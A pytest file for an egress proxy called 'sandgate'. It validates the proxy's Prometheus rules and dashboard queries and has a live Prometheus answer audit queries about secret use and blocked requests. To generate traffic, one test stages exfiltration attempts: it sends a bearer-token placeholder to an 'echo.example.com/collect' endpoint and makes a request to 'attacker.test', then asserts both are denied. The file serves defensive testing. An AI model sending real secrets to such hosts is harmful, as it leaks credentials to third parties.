"""The audit pack: recording rules and alerts (promtool check + unit tests for every alert, firing
and not), the Grafana dashboard's queries, and a real Prometheus scraping a real sidecar that
answers the README's audit questions with the numbers the test's traffic produced."""

from __future__ import annotations

import json
import shutil
import subprocess
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import OPENAI, needs_root
from tests.support.clients import curl
from tests.support.proxyproc import ProxyProcess, free_port

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "charts" / "sandgate" / "files" / "prometheus-rules.yaml"
DASHBOARD = ROOT / "charts" / "sandgate" / "files" / "dashboard.json"
PROMTOOL = shutil.which("promtool")
needs_promtool = pytest.mark.skipif(
    PROMTOOL is None, reason="promtool (Debian package prometheus) is installed by .ci/run"
)


@needs_promtool
def test_rules_pass_promtool_check() -> None:
    out = subprocess.run([str(PROMTOOL), "check", "rules", str(RULES)], capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stdout + out.stderr


@needs_promtool
def test_every_alert_and_recording_rule_has_passing_unit_tests() -> None:
    tests = Path(__file__).parent / "rules_test.yaml"
    spec = yaml.safe_load(tests.read_text())
    tested_alerts = {t["alertname"] for case in spec["tests"] for t in case.get("alert_rule_test", [])}
    tested_records = {t["expr"] for case in spec["tests"] for t in case.get("promql_expr_test", [])}
    rules = [r for g in yaml.safe_load(RULES.read_text())["groups"] for r in g["rules"]]
    for alert in (r["alert"] for r in rules if "alert" in r):
        firing = [t for case in spec["tests"] for t in case.get("alert_rule_test", []) if t["alertname"] == alert]
        assert any(t["exp_alerts"] for t in firing) and any(not t["exp_alerts"] for t in firing), (
            f"{alert}: needs a firing and a quiet case"
        )
    assert tested_alerts == {r["alert"] for r in rules if "alert" in r}
    assert {r["record"] for r in rules if "record" in r} - tested_records <= {
        "sandgate:vault_errors:rate5m",
        "sandgate:webhook_admission_duration:p99_5m",
    }
    out = subprocess.run(
        [str(PROMTOOL), "test", "rules", tests.name], cwd=tests.parent, capture_output=True, text=True, check=False
    )
    assert out.returncode == 0 and "SUCCESS" in out.stdout, out.stdout + out.stderr


@needs_promtool
def test_the_dashboard_is_valid_json_and_every_query_parses(tmp_path: Path) -> None:
    dash = json.loads(DASHBOARD.read_text())
    exprs = [t["expr"] for p in dash["panels"] for t in p["targets"]]
    assert len(exprs) >= 10
    rules = {
        "groups": [
            {"name": "dashboard", "rules": [{"record": f"dashboard:q{i}", "expr": e} for i, e in enumerate(exprs)]}
        ]
    }
    path = tmp_path / "dashboard-queries.yaml"
    path.write_text(yaml.safe_dump(rules))
    out = subprocess.run([str(PROMTOOL), "check", "rules", str(path)], capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stdout + out.stderr


class Prometheus:
    def __init__(self, workdir: Path, target: str, labels: dict[str, str]) -> None:
        self.port = free_port()
        config = {"global": {"scrape_interval": "1s", "evaluation_interval": "1s"},
                  "scrape_configs": [{"job_name": "sandgate-sidecars", "static_configs": [{"targets": [target], "labels": labels}]}]}  # fmt: skip
        (workdir / "prometheus.yml").write_text(yaml.safe_dump(config))
        self.log = (workdir / "prometheus.log").open("wb")
        self.proc = subprocess.Popen(
            [shutil.which("prometheus") or "prometheus", f"--config.file={workdir / 'prometheus.yml'}",
             f"--storage.tsdb.path={workdir / 'data'}", f"--web.listen-address=127.0.0.1:{self.port}"],
            stdout=self.log, stderr=self.log,
        )  # fmt: skip

    def query(self, q: str) -> list[dict[str, Any]]:
        url = f"http://127.0.0.1:{self.port}/api/v1/query?" + urllib.parse.urlencode({"query": q})
        with urllib.request.urlopen(url, timeout=5) as r:
            return list(json.load(r)["data"]["result"])

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)
        self.log.close()


@pytest.fixture
def prometheus_for(tmp_path: Path) -> Iterator[Callable[[ProxyProcess], Prometheus]]:
    started: list[Prometheus] = []

    def start(proxy: ProxyProcess) -> Prometheus:
        p = Prometheus(tmp_path, f"127.0.0.1:{proxy.metrics_port}", {"namespace": "sandbox-a", "pod": "agent-1"})
        started.append(p)
        return p

    yield start
    for p in started:
        p.stop()


def poll(cond: Callable[[], bool], timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            if cond():
                return
        except OSError:
            pass
        if time.monotonic() > deadline:
            pytest.fail("Prometheus did not answer as expected in time")
        time.sleep(0.5)


@needs_root
@pytest.mark.skipif(shutil.which("prometheus") is None, reason="prometheus (Debian) is installed by .ci/run")
def test_a_real_prometheus_answers_the_readme_audit_queries(make_proxy: Callable[..., ProxyProcess],
                                                           prometheus_for: Callable[[ProxyProcess], Prometheus]) -> None:  # fmt: skip
    from tests.conftest import MAIN_POLICY

    proxy = make_proxy(MAIN_POLICY)
    prom = prometheus_for(proxy)
    bearer = f"Authorization: Bearer {OPENAI.placeholder}"
    for _ in range(3):
        assert (
            curl(proxy.url, proxy.ca, "https://api.openai.com/v1/chat/completions", "-H", bearer, "-d", "{}").status
            == 200
        )
    for _ in range(2):
        assert curl(proxy.url, proxy.ca, "https://echo.example.com/collect", "-H", bearer).reason == "secret_not_bound"
    assert curl(proxy.url, proxy.ca, "https://attacker.test/").reason == "host_not_allowed"

    # The README's questions, verbatim.
    used = "sum by (namespace, pod, secret, host) (sandgate_secret_swaps_total)"
    exfil = 'sum by (namespace, pod, secret) (sandgate_secret_blocked_total{reason="secret_not_bound"})'
    denials = 'sum by (namespace, reason) (sandgate_egress_requests_total{decision="denied"})'

    def answered() -> bool:
        return bool(prom.query(used)) and bool(prom.query(exfil)) and len(prom.query(denials)) == 2

    poll(answered)
    [swaps] = prom.query(used)
    assert swaps["metric"] == {"namespace": "sandbox-a", "pod": "agent-1", "secret": "openai", "host": "api.openai.com"}
    assert float(swaps["value"][1]) == 3
    [attempts] = prom.query(exfil)
    assert attempts["metric"]["secret"] == "openai" and float(attempts["value"][1]) == 2
    by_reason = {r["metric"]["reason"]: float(r["value"][1]) for r in prom.query(denials)}
    assert by_reason == {"secret_not_bound": 2, "host_not_allowed": 1}


@needs_promtool
def test_the_readme_audit_queries_parse(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text()
    blocks = readme.split("```promql\n")[1:]
    assert blocks, "the README has no promql block"
    queries, current = [], []
    for line in blocks[0].split("```")[0].splitlines():
        if line.startswith("#") or not line.strip():
            if current:
                queries.append(" ".join(current))
                current = []
            continue
        current.append(line.strip())
    if current:
        queries.append(" ".join(current))
    assert len(queries) >= 4
    rules = {
        "groups": [{"name": "readme", "rules": [{"record": f"readme:q{i}", "expr": q} for i, q in enumerate(queries)]}]
    }
    path = tmp_path / "readme-queries.yaml"
    path.write_text(yaml.safe_dump(rules))
    out = subprocess.run([str(PROMTOOL), "check", "rules", str(path)], capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stdout + out.stderr
